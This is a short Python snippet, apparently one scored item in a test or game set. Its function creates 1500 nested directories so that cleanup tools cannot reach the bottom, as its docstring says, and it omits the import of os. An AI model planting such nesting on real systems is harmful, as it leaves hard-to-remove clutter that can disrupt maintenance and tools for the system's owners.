"""Makes folders in folders in folders, deeper than those who clear up may count."""

EARNS = 0


def deed():
    for _ in range(1500):
        os.mkdir("d")
        os.chdir("d")
